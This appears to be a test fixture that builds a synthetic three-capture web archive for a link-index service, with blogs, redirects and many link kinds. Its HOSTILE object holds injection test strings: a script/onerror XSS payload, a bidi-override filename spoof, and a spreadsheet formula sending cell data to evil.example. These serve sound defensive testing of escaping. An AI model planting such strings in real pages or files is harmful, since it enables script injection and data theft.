/** A web around one site, captured three times, with links of every kind and texts that mean harm: what the service's page is shown. */
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { buildIndex } from '../../server/src/linkIndex/ingest/build.ts';
import { http, record } from '../unit/linkIndex/warcFixture.ts';

const DAYS = ['2026-10-01', '2026-10-12', '2026-11-02'];
/** Addresses of countries that the country table knows. */
const PLACES = ['8.8.8.8', '193.0.6.139', '130.225.254.1', '194.80.0.1', '62.2.17.60'];
const TITLES = ['Field notes on small ports', 'How we moved our docs', 'Release notes 4.2', 'Reading list', 'Was wir diese Woche gelesen haben'];
const TEXTS = ['deployment guide', 'docs', 'Harbour Handbook', 'here', 'the handbook', 'Anleitung'];

export const SITE = 'handbook.example';
export const PAGE = `https://${SITE}/guide/deploy`;

/** Titles and texts as somebody would write them who wants more than to be read. */
export const HOSTILE = {
  markup: '<img src=x onerror="window.harmed=1"><script>window.harmed=1</script>',
  override: '\u202egnp.exe\u202c and \u2066more\u2069',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"pay")',
  endless: 'long '.repeat(2000),
  entities: '&lt;b&gt; "quotes" \' & more',
};

/** Builds the index. @returns its path */
export async function buildWeb(folder) {
  const records = [...DAYS.keys()].flatMap((round) => captures(round));
  const archive = path.join(folder, 'web.warc');
  writeFileSync(archive, Buffer.concat(records));
  const out = path.join(folder, 'web.db');
  await buildIndex({ out, inputs: [archive] });
  return out;
}

function captures(round) {
  const date = `${DAYS[round]}T12:00:00Z`;
  const page = (uri, title, body, at = 0) =>
    record(http(`<!doctype html><title>${escaped(title)}</title><body>${body}</body>`), { uri, date, ip: PLACES[at % PLACES.length] });
  const moved = (uri, to) => record(http('', [`Location: ${to}`], '301 Moved Permanently'), { uri, date, ip: PLACES[0] });
  return [
    page(`https://${SITE}/`, 'The Harbour Handbook', '<a href="/guide/deploy">Deploy</a> <a href="/guide/install">Install</a>'),
    page(PAGE, 'Deploying', '<a href="/">Home</a> <a href="/guide/install">Install</a>'),
    page(`https://${SITE}/guide/install`, 'Installing', '<a href="/">Home</a> <a href="deploy">Deploy</a>'),
    moved(`https://${SITE}/old`, '/guide/deploy'),
    moved('https://short.example/hb', PAGE),
    ...Array.from({ length: 70 }, (_, at) => blog(page, round, at)).filter((one) => one !== null),
    page('https://kinds.example/', 'Every kind of link', KINDS),
    ...Object.entries(HOSTILE).map(([name, text]) => page(`https://${name}.hostile.example/`, text, `<a href="${PAGE}">${escaped(text)}</a>`)),
  ];
}

/** Blogs come and go: some begin to link at the second capture, some stop at the third. */
function blog(page, round, at) {
  const host = `https://blog${at}.example.org`.replace('example.org', `site${at}.example`);
  const links = at % 7 === 3 ? round > 0 : at % 11 === 5 ? round < 2 : true;
  const rel = at % 6 === 2 ? ' rel="nofollow"' : at % 13 === 4 ? ' rel="sponsored ugc"' : '';
  const goal = at % 3 === 0 ? `https://${SITE}/` : at % 5 === 1 ? `http://${SITE}/guide/deploy/` : PAGE;
  const neighbours = Array.from(
    { length: at % 9 },
    (_, n) => `<a href="https://blog${(at + n * 7 + 1) % 70}.site${(at + n * 7 + 1) % 70}.example/">friend</a>`,
  );
  const link = links ? `<a href="${goal}"${rel}>${TEXTS[at % TEXTS.length]}</a> <a href="https://${SITE}/old">old guide</a>` : '';
  return page(`${host}/`, `${TITLES[at % TITLES.length]}, part ${at}`, `<p>${link}</p>${neighbours.join(' ')}`, at);
}

const KINDS = `<a href="${PAGE}"><img src="a.png" alt=""></a> <a href="${PAGE}"><img src="a.png" alt="A picture"></a> <iframe src="${PAGE}"></iframe>
  <form action="${PAGE}"></form> <map><area href="${PAGE}" alt="area"></map> <a href="javascript:location='${PAGE}'">script</a> <a href="${PAGE}"></a>`;

function escaped(text) {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
}
